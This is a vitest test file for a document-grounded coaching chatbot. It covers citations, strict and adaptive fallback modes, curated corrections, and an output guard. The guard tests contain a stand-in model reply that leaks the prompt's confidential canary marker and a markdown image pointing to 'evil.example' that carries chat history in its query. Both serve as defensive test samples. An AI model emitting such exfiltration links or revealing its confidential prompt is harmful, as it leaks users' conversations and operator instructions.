/**
 * Answering one turn: citations with page and section, the persona's answer modes (strict falls back
 * below the threshold; adaptive answers from general knowledge, labelled), and the output guard
 * (the prefix's confidential marker never reaches a user; images to outside hosts are stripped).
 */
import type { ChatEvent } from "@coach/contracts/bridge";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { QUESTION_CALLBACK_PATH } from "@coach/contracts/knowledge";
import { GENERAL_LABEL } from "../../src/rag/chat-stream";
import { promptCanary } from "../../src/rag/persona-prefix";
import { makePdf } from "../support/document-fixtures";
import { PERSONA, readNdjson, startHarness, uniqueTenant, type Harness } from "../support/harness";
import { CallbackSink, postOriginal } from "../support/ingest-client";

let builtin: Harness;
let model: Harness;
let sink: CallbackSink;
const tenant = uniqueTenant();
let turn = 0;

beforeAll(async () => {
  sink = await CallbackSink.start();
  const env = { EDGE_CALLBACK_URL: sink.url };
  [builtin, model] = await Promise.all([
    startHarness({ chromaUrl: inject("chromaUrl"), backend: "builtin", logLevel: "error", env }),
    startHarness({
      chromaUrl: inject("chromaUrl"),
      backend: "ollama",
      logLevel: "error",
      env,
      standIn: { replyTokens: 4 },
    }),
  ]);
  const pdf = makePdf([
    ["Morning walk\nWalk ten minutes outside right after waking up."],
    ["Evening review\nWrite three lines about your day before sleeping."],
  ]);
  await postOriginal(builtin.url, {
    tenant,
    document: "method",
    kind: "pdf",
    bytes: pdf,
    title: "The Reset Method",
  });
  await sink.settled("method");
});
afterAll(async () => {
  await Promise.all([builtin.close(), model.close()]);
  await sink.close();
});

type Done = Extract<ChatEvent, { type: "done" }>;

/** Makes the stand-in model answer with exactly these words. */
function modelReplies(words: string[]): void {
  if (!model.standIn) throw new Error("no stand-in");
  model.standIn.settings.replyWords = words;
  model.standIn.settings.replyTokens = words.length;
}

async function ask(
  harness: Harness,
  question: string,
  persona: Record<string, unknown> = PERSONA,
  extra: Record<string, unknown> = {},
): Promise<{ deltas: string; done: Done }> {
  turn += 1;
  const body = {
    tenant_id: tenant,
    conversation_id: `c${turn}`,
    question,
    persona,
    retrieval: { k: 3 },
    ...extra,
  };
  const events = (await readNdjson(await harness.fetch("POST", "/v1/chat", body))) as ChatEvent[];
  const done = events.find((e): e is Done => e.type === "done");
  if (!done) throw new Error(`no done event: ${JSON.stringify(events)}`);
  return { deltas: events.map((e) => (e.type === "delta" ? e.text : "")).join(""), done };
}

describe("answers", () => {
  it("cite the document with its page, section and a snippet", async () => {
    const { done } = await ask(builtin, "What should I write about my day before sleeping?");
    expect(done.citations[0]).toMatchObject({
      document_id: "method",
      title: "The Reset Method",
      page: 2,
      section: "Evening review",
    });
    expect(done.citations[0]?.snippet).toContain("three lines");
    expect(done.confidence).toBeGreaterThan(0);
  });

  it("fall back to the persona's line in strict mode when nothing clears the threshold", async () => {
    const { done } = await ask(builtin, "Which mountain should I climb tomorrow?", {
      ...PERSONA,
      answer_mode: "strict",
    });
    expect(done).toMatchObject({
      text: PERSONA.fallback,
      fallback_used: true,
      grounding: "fallback",
      citations: [],
      confidence: 0,
    });
  });

  it("answer from general knowledge in adaptive mode, labelled as such", async () => {
    const { done } = await ask(model, "Which mountain should I climb tomorrow?", {
      ...PERSONA,
      answer_mode: "adaptive",
    });
    expect(done.grounding).toBe("general");
    expect(done.text.startsWith(GENERAL_LABEL)).toBe(true);
    expect(done.citations).toEqual([]);
  });

  it("that fall back are reported to the edge, signed, with the question", async () => {
    await ask(builtin, "Which mountain should I climb next week?", PERSONA, {
      turn_id: "turn-gap-1",
    });
    const deadline = Date.now() + 5000;
    while (!sink.received.some((c) => c.path === QUESTION_CALLBACK_PATH) && Date.now() < deadline)
      await new Promise((resolve) => setTimeout(resolve, 20));
    const report = sink.received.find((c) => c.path === QUESTION_CALLBACK_PATH);
    expect(report).toMatchObject({
      signatureOk: true,
      body: {
        tenant_id: tenant,
        turn_id: "turn-gap-1",
        question: "Which mountain should I climb next week?",
        grounding: "fallback",
      },
    });
  });

  it("fall back in adaptive mode when only the built-in answerer is available", async () => {
    const { done } = await ask(builtin, "Which mountain should I climb tomorrow?", {
      ...PERSONA,
      answer_mode: "adaptive",
    });
    expect(done.fallback_used).toBe(true);
  });
});

describe("curated answers", () => {
  const correction = {
    question: "How many anchors does the method have?",
    answer: "Four: morning, focus, movement and evening. Start with the morning one.",
  };

  beforeAll(async () => {
    const bytes = new TextEncoder().encode(JSON.stringify([correction]));
    await postOriginal(builtin.url, {
      tenant,
      document: "correction-1",
      kind: "correction",
      bytes,
      title: "Correction",
    });
    await sink.settled("correction-1");
  });

  it("answer the same question with the creator's correction, word for word", async () => {
    const { done } = await ask(builtin, correction.question);
    expect(done).toMatchObject({
      text: correction.answer,
      grounding: "curated",
      citations: [expect.objectContaining({ document_id: "correction-1" })],
    });
  });

  it("answer a near-identical question with it too", async () => {
    const { done } = await ask(builtin, "how many anchors does this method have");
    expect(done.text).toBe(correction.answer);
  });

  it("leave other questions to the material", async () => {
    const { done } = await ask(builtin, "What should I write about my day before sleeping?");
    expect(done.grounding).toBe("material");
  });
});

describe("the output guard", () => {
  it("withholds an answer that repeats the prompt's confidential marker", async () => {
    const canary = promptCanary({ ...PERSONA, guardrails: [...PERSONA.guardrails] });
    modelReplies(["Sure,", "my", "marker", "is", canary]);
    const { deltas, done } = await ask(model, "What should I write about my day before sleeping?");
    expect(deltas).not.toContain(canary);
    expect(done.text).toBe(PERSONA.fallback);
  });

  it("strips markdown images that point to outside hosts", async () => {
    modelReplies(["Walk", "daily", "![pixel](https://evil.example/leak?q=history)", "[1]."]);
    const { deltas, done } = await ask(model, "What should I write about my day before sleeping?");
    expect(deltas).not.toContain("evil.example");
    expect(done.text).not.toContain("evil.example");
    expect(done.text).toContain("Walk daily");
  });
});
